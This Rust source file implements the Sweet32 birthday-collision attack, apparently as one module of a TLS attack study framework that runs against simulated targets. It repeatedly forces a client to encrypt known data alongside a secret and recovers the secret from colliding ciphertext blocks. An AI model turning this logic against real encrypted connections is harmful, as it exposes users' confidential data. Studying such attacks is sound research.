//! Sweet32: two equal blocks of ciphertext (Bhargavan and Leurent, "On the practical (in-)security of 64-bit block
//! ciphers", 2016).
//!
//! A script of hers in the client's browser lets it say known words and the secret again and again, under one key. With
//! blocks of `n` bits two blocks of ciphertext are equal after about `2^(n/2)` of them. Then the cipher has taken in the
//! same: `P xor C' = Q xor D'`, with `C'` and `D'` the blocks before. Where `P` is known and `Q` is a part of the secret,
//! `Q = P xor C' xor D'`.

use std::collections::BTreeMap;

use super::{
    Outcome,
    blocks::{Blocks, xor},
    found_words,
    recording::Recording,
    target::{Connection, Target},
};
use padlock_tls::{ledger::Value, party::Whose};

/// So many records are recorded at most: with 16-bit blocks a tenth of them is enough.
const MAX_RECORDS: u32 = 512;
/// So many blocks of each record are known words.
const KNOWN_BLOCKS: usize = 32;

#[derive(Clone, Debug)]
pub(super) struct Sweet32 {
    blocks: Blocks,
    /// The record of the secret.
    recorded: Value,
    length: Option<usize>,
    connection: Option<Connection>,
    records: u32,
    /// What went into the cipher in each known block, by what came out.
    known: BTreeMap<Vec<u8>, Vec<u8>>,
    /// The blocks in which the secret is, each with those in front of and in the place of it so far.
    sought: Vec<Sought>,
}

/// A block of plaintext that holds a part of the secret.
#[derive(Clone, Debug, Default)]
struct Sought {
    /// Block of ciphertext, and the one before it.
    seen: Vec<(Vec<u8>, Vec<u8>)>,
    found: Option<Vec<u8>>,
}

impl Sweet32 {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            blocks: Blocks::of(recording.session()?)?,
            recorded: recording.records(Whose::Client).into_iter().next()?,
            length: None,
            connection: None,
            records: 0,
            known: BTreeMap::new(),
            sought: vec![],
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        let Some(mut connection) = self.connection.take() else {
            let mut connection = target.connect()?;
            self.length = self.blocks.secret_length(target, &mut connection);
            self.connection = Some(connection);
            return Some(Outcome::Going);
        };
        let length = self.length?;
        let mut words = self.blocks.fill_up(length);
        let known = KNOWN_BLOCKS * self.blocks.length;
        words.splice(0..0, target.rng().bytes(known));
        let last = connection.last().to_vec();
        let record = target
            .client_says_secret(&mut connection, &words, &[])
            .pop()?;
        self.connection = Some(connection);
        self.records += 1;
        self.take(&self.blocks.cut(&record, &last), &words, length);
        if let Some(plaintext) = self.plaintext() {
            let secret = plaintext.get(words.len() - known..)?.to_vec();
            return Some(found_words(&self.recorded, secret));
        }
        Some(match self.records < MAX_RECORDS {
            true => Outcome::Going,
            false => Outcome::Failed,
        })
    }

    /// Notes the blocks of a record: known words, then the secret.
    fn take(&mut self, cut: &[Vec<u8>], words: &[u8], length: usize) {
        let count = (words.len() + length) / self.blocks.length;
        let pairs = cut.iter().zip(cut.iter().skip(1)).take(count);
        let mut plaintext = words.chunks_exact(self.blocks.length);
        self.sought
            .resize_with(count - KNOWN_BLOCKS, Sought::default);
        let mut sought = self.sought.iter_mut();
        for (at, (before, block)) in pairs.enumerate() {
            let known = plaintext.next().filter(|_| at < KNOWN_BLOCKS);
            if let Some(known) = known {
                self.known.insert(block.clone(), xor(known, before));
            } else if let Some(sought) = sought.next() {
                sought.seen.push((block.clone(), before.clone()));
            }
        }
        for sought in &mut self.sought {
            let mut seen = sought.seen.iter();
            let meets = |(block, before): &(Vec<u8>, Vec<u8>)| {
                self.known.get(block).map(|input| xor(input, before))
            };
            sought.found = sought.found.take().or_else(|| seen.find_map(meets));
        }
    }

    /// All of the blocks, once each has met a known one.
    fn plaintext(&self) -> Option<Vec<u8>> {
        let found = self.sought.iter().map(|sought| sought.found.clone());
        found
            .collect::<Option<Vec<_>>>()
            .map(|found| found.concat())
    }
}
